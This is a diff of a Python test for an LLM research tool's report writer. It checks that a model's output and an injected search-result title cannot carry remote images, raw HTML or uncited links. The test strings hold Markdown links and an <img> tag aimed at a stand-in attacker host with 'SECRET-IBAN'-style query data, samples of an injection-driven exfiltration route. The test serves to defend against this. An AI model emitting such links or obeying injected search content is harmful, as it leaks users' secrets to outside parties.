@@ -140,8 +140,8 @@ def test_the_written_report_has_no_remote_image_raw_html_or_uncited_link(site: S
               f"See [the official page]({attacker}/link?d=SECRET-IBAN) or {attacker}/bare?d=SECRET and "
               f"[the benchmark]({site.url('/inject')}) [{{web}}].\n\n<img src=\"{attacker}/rawhtml?d=SECRET\">\n\n"
               "`<b>code</b>` stays.")
-    search = search_service([{"title": "Executive pay benchmarks 2026", "url": site.url("/inject"),
-                              "content": "Pay benchmarks for 2026."}])
+    title = f"Benchmarks](<{attacker}/t?d=1>) ![x\n# Injected heading <img src=x>"  # outside text, not Markdown
+    search = search_service([{"title": title, "url": site.url("/inject"), "content": "Pay benchmarks for 2026."}])
     llm = ScriptedChatModel([obedient(answer)] * 30)
     out = tmp_path / "report.md"
     try:
@@ -157,6 +157,10 @@ def test_the_written_report_has_no_remote_image_raw_html_or_uncited_link(site: S
     assert f"[the benchmark]({site.url('/inject')})" in text  # the cited web source's host keeps its link
     assert "\\<img src=" in text and "<img" not in text.replace("\\<img", "")
     assert "`<b>code</b>` stays." in text
+    sources = text.split("## Sources\n\n")[1]
+    # (the search result cleaner already dropped the URL and the tag; what is left stays text, on one line)
+    assert f"- {site.url('/inject')} — Benchmarks\\]() \\!\\[x # Injected heading: [" in sources
+    assert "\n#" not in sources
     assert not [p for p in site.paths() if p.startswith(("/img", "/link", "/bare", "/rawhtml"))]
 
 
